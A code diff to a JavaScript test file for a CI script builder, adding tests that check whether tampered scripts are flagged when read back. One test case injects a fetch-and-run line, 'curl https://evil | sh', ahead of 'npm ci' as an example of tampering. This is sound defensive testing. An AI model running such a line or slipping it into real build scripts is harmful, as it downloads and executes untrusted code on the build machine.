@@ -39,13 +39,16 @@ test("a job whose steps end well ends well", () => {
   expect(run("nothing")).toEqual({ status: 0, ran: ["plan", "apply", "record", "tell"] });
 });
 
-test("a script reads back as its steps and variables", () => {
-  const script = scriptOf([withWords(step("choose"), "--for", "drift"), ...STEPS], {
-    values: { BASE: "$PULL_BASE_SHA", FLEET_ID_TOKEN: "$(cat token)" },
-    setUp: ["npm ci --ignore-scripts"],
-  });
+const AROUND = {
+  values: { BASE: "$PULL_BASE_SHA", FLEET_ID_TOKEN: "$(cat token)" },
+  setUp: ["npm ci --ignore-scripts"],
+  last: ["echo kept"],
+};
 
-  expect(readScript(script)).toEqual({
+test("a script reads back as its steps and variables", () => {
+  const script = scriptOf([withWords(step("choose"), "--for", "drift"), ...STEPS], AROUND);
+
+  expect(readScript(script, AROUND)).toEqual({
     steps: [
       { stage: "choose", words: ["--for", "drift"], evenIfFailed: false },
       { stage: "plan", words: [], evenIfFailed: false },
@@ -54,5 +57,18 @@ test("a script reads back as its steps and variables", () => {
       { stage: "tell", words: [], evenIfFailed: true },
     ],
     variables: ["BASE"],
+    surprises: [],
   });
+});
+
+test.each([
+  ["a line that somebody added", "npm ci", "curl https://evil | sh\nnpm ci"],
+  ["another value of a variable", "$PULL_BASE_SHA", "HEAD"],
+  ["a step whose failure is ignored", "fleet ci plan\n", "fleet ci plan || true\n"],
+  ["a script that goes on after a failure", "set -eu\n", ""],
+  ["a trap that is gone", "trap finish EXIT\n", ""],
+])("a script with %s is noticed when it is read back", (_, from, to) => {
+  const script = scriptOf(STEPS, AROUND).replace(from, to);
+
+  expect(readScript(script, AROUND).surprises).toEqual([expect.stringMatching(/^script "/)]);
 });
